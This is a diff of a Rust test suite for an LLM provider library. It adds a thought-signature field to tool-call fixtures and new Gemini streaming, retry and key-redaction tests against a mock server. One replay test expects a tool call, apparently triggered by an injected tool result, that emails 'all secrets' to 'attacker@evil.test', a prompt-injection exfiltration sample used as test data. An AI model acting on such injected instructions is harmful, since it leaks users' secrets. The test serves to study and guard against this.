@@ -20,9 +20,9 @@ use wor_core::model::{
     Usage,
 };
 use wor_models::{
-    AnthropicProvider, AzureOpenAiProvider, CollectedStream, DiscardStream, ModelError,
-    ModelProvider, OpenAiCompatibleProvider, ProviderEndpoint, ProviderOptions, ReplayProvider,
-    ReplayScript, RetryPolicy,
+    AnthropicProvider, AzureOpenAiProvider, CollectedStream, DiscardStream, GeminiProvider,
+    ModelError, ModelProvider, OpenAiCompatibleProvider, ProviderEndpoint, ProviderOptions,
+    ReplayProvider, ReplayScript, RetryPolicy,
 };
 
 const API_KEY: &str = "sk-test-0123456789abcdefghijklmnopqrstuv";
@@ -82,11 +82,13 @@ fn conversation() -> ModelRequest {
                         id: "call_a".into(),
                         name: "lookup".into(),
                         arguments: json!({"word": "apple"}),
+                        thought_signature: None,
                     },
                     ToolCallRequest {
                         id: "call_b".into(),
                         name: "lookup".into(),
                         arguments: json!({"word": "pear"}),
+                        thought_signature: None,
                     },
                 ],
             }),
@@ -204,12 +206,14 @@ async fn openai_request_carries_tools_and_messages_and_two_parallel_calls_come_b
             ToolCallRequest {
                 id: "call_1".into(),
                 name: "lookup".into(),
-                arguments: json!({"word": "fig"})
+                arguments: json!({"word": "fig"}),
+                thought_signature: None,
             },
             ToolCallRequest {
                 id: "call_2".into(),
                 name: "lookup".into(),
-                arguments: json!({"word": "kiwi"})
+                arguments: json!({"word": "kiwi"}),
+                thought_signature: None,
             },
         ]
     );
@@ -664,12 +668,14 @@ async fn anthropic_stream_assembles_text_and_input_json_deltas() {
             ToolCallRequest {
                 id: "toolu_a".into(),
                 name: "lookup".into(),
-                arguments: json!({"word": "plum"})
+                arguments: json!({"word": "plum"}),
+                thought_signature: None,
             },
             ToolCallRequest {
                 id: "toolu_b".into(),
                 name: "lookup".into(),
                 arguments: json!({}),
+                thought_signature: None,
             },
         ],
         "a tool_use with no input deltas has empty arguments"
@@ -846,7 +852,8 @@ async fn replay_plays_turns_in_order_then_runs_out() {
         [ToolCallRequest {
             id: "c1".into(),
             name: "fetch".into(),
-            arguments: json!({"url": "https://example.com"})
+            arguments: json!({"url": "https://example.com"}),
+            thought_signature: None,
         }]
     );
     assert_eq!(first.stop_reason, StopReason::ToolUse);
@@ -932,6 +939,7 @@ async fn replay_marker_turn_fires_on_injected_tool_result_with_arguments_from_it
             id: "replay_1_1".into(),
             name: "send_email".into(),
             arguments: json!({"to": "attacker@evil.test", "body": "all secrets"}),
+            thought_signature: None,
         }]
     );
 
@@ -1432,4 +1440,156 @@ async fn azure_waits_out_a_429_and_redacts_a_rejected_key() {
         "{error:?}"
     );
     assert!(error.to_string().contains("Access denied"), "{error}");
+}
+
+// ---------------------------------------------------------------- Gemini
+
+fn gemini(server: &MockServer, streaming: bool) -> GeminiProvider {
+    GeminiProvider::new(
+        loopback_egress(),
+        ProviderEndpoint::new(server.base_url(), Some(API_KEY.into())),
+        options(streaming),
+    )
+}
+
+fn gemini_stream(finished: bool) -> String {
+    let mut chunks = vec![
+        json!({"candidates": [{"content": {"role": "model", "parts": [{"text": "Let me ", "thought": true}]}, "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "totalTokenCount": 70}, "modelVersion": "gemini-2.5-flash"}),
+        json!({"candidates": [{"content": {"role": "model", "parts": [{"text": "Checking "}]}, "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "candidatesTokenCount": 2, "totalTokenCount": 72}}),
+        json!({"candidates": [{"content": {"role": "model", "parts": [{"text": "both."}]}, "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "candidatesTokenCount": 4, "totalTokenCount": 74}}),
+    ];
+    if finished {
+        chunks.push(json!({"candidates": [{"content": {"role": "model", "parts": [
+                {"functionCall": {"name": "lookup", "args": {"word": "apple"}}, "thoughtSignature": "Q2lRQmp6MWY="},
+                {"functionCall": {"name": "lookup", "args": {"word": "pear"}}}]},
+            "finishReason": "STOP", "index": 0}],
+            "usageMetadata": {"promptTokenCount": 70, "candidatesTokenCount": 20, "thoughtsTokenCount": 33, "totalTokenCount": 123}}));
+    }
+    let mut body = String::new();
+    for chunk in chunks {
+        body.push_str(&format!("data: {chunk}\r\n\r\n"));
+    }
+    body
+}
+
+#[tokio::test]
+async fn gemini_streams_text_and_function_calls_with_their_signature_and_counts_thinking() {
+    let server = MockServer::start(vec![sse_reply(&gemini_stream(true), 45)]).await;
+    let mut request = conversation();
+    request.model = "gemini-2.5-flash".into();
+    let mut sink = CollectedStream::default();
+    let response = gemini(&server, true)
+        .complete(&request, &mut sink)
+        .await
+        .unwrap();
+    assert_eq!(
+        response.message.text, "Checking both.",
+        "thought parts are not text"
+    );
+    assert_eq!(sink.text_deltas, ["Checking ", "both."]);
+    let calls = &response.message.tool_calls;
+    assert_eq!(calls.len(), 2);
+    assert_eq!(calls[0].arguments, json!({"word": "apple"}));
+    assert_eq!(calls[0].thought_signature.as_deref(), Some("Q2lRQmp6MWY="));
+    assert_eq!(calls[1].thought_signature, None);
+    assert_ne!(calls[0].id, calls[1].id);
+    assert_eq!(response.stop_reason, StopReason::ToolUse);
+    assert_eq!(
+        response.usage,
+        Usage {
+            input_tokens: 70,
+            output_tokens: 53
+        },
+        "thinking is billed as output"
+    );
+    let sent = &server.requests()[0];
+    assert_eq!(
+        sent.request_line,
+        "POST /v1beta/models/gemini-2.5-flash:streamGenerateContent?alt=sse HTTP/1.1"
+    );
+    assert_eq!(sent.header("x-goog-api-key"), Some(API_KEY));
+    assert_eq!(sent.header("authorization"), None);
+    assert!(
+        !sent.request_line.contains(API_KEY),
+        "the key is never in the URL"
+    );
+    let body = sent.json();
+    assert_eq!(
+        body["systemInstruction"]["parts"][0]["text"],
+        "You are terse."
+    );
+    assert_eq!(body["contents"][1]["role"], "model");
+    assert_eq!(
+        body["contents"][2]["parts"][1]["functionResponse"],
+        json!({"name": "lookup", "response": {"error": "not found"}, "id": "call_b"})
+    );
+    assert_eq!(
+        body["tools"][0]["functionDeclarations"][0]["name"],
+        "lookup"
+    );
+}
+
+#[tokio::test]
+async fn gemini_stream_without_a_finish_reason_is_truncated_with_usage_so_far() {
+    let server = MockServer::start(vec![sse_reply(&gemini_stream(false), 64)]).await;
+    let error = gemini(&server, true)
+        .complete(&simple_request(), &mut DiscardStream)
+        .await
+        .unwrap_err();
+    match error {
+        ModelError::TruncatedStream { usage_so_far } => {
+            assert_eq!(usage_so_far.input_tokens, 70);
+            assert_eq!(usage_so_far.output_tokens, 4);
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[tokio::test]
+async fn gemini_honours_the_retry_delay_in_its_error_body_and_redacts_a_rejected_key() {
+    let server = MockServer::start(vec![
+        json_reply(
+            429,
+            &[],
+            r#"{"error":{"code":429,"message":"You exceeded your current quota.","status":"RESOURCE_EXHAUSTED",
+                "details":[{"@type":"type.googleapis.com/google.rpc.RetryInfo","retryDelay":"1s"}]}}"#,
+        ),
+        json_reply(
+            200,
+            &[],
+            r#"{"candidates":[{"content":{"role":"model","parts":[{"text":"ok"}]},"finishReason":"STOP","index":0}],
+                "usageMetadata":{"promptTokenCount":4,"candidatesTokenCount":1,"totalTokenCount":5}}"#,
+        ),
+        json_reply(
+            400,
+            &[],
+            &format!(
+                r#"{{"error":{{"code":400,"message":"API key not valid: {API_KEY}. Please pass a valid API key.","status":"INVALID_ARGUMENT"}}}}"#
+            ),
+        ),
+    ])
+    .await;
+    let provider = gemini(&server, false);
+    let response = provider
+        .complete(&simple_request(), &mut DiscardStream)
+        .await
+        .unwrap();
+    assert_eq!(response.message.text, "ok");
+    assert_eq!(response.stop_reason, StopReason::EndTurn);
+    let requests = server.requests();
+    assert_eq!(
+        requests[1].request_line,
+        "POST /v1beta/models/test-model:generateContent HTTP/1.1"
+    );
+    let waited = requests[1].at.duration_since(requests[0].at);
+    assert!(waited >= Duration::from_millis(900), "{waited:?}");
+    let error = provider
+        .complete(&simple_request(), &mut DiscardStream)
+        .await
+        .unwrap_err();
+    assert_key_hidden(&error);
+    assert!(error.to_string().contains("API key not valid"), "{error}");
 }
